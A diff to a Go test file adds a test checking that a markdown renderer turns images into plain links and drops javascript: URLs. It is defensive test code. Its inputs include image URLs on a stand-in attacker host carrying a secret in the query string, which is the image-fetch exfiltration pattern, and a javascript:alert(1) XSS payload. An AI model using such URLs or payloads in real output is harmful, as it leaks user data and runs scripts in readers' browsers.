@@ -60,3 +60,26 @@ func TestMarkdownRenders(t *testing.T) {
 		})
 	}
 }
+
+func TestMarkdownImagesAreLinks(t *testing.T) {
+	tests := []struct {
+		name, src, want string
+	}{
+		{"image with alt text", `![the chart](https://evil.example/x.png?secret=42)`,
+			`<a class="image-link" href="https://evil.example/x.png?secret=42" rel="nofollow noopener" target="_blank">image: the chart</a>`},
+		{"image without alt text", `![](https://evil.example/t.gif)`,
+			`<a class="image-link" href="https://evil.example/t.gif" rel="nofollow noopener" target="_blank">image: https://evil.example/t.gif</a>`},
+		{"javascript image", `![x](javascript:alert(1))`, `image: x`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := MarkdownHTML(tt.src)
+			if strings.Contains(strings.ToLower(got), "<img") || strings.Contains(got, "javascript:") {
+				t.Fatalf("MarkdownHTML(%q) = %q; an image is fetched or a script URL kept", tt.src, got)
+			}
+			if !strings.Contains(got, tt.want) {
+				t.Fatalf("MarkdownHTML(%q) = %q; want it to contain %q", tt.src, got, tt.want)
+			}
+		})
+	}
+}
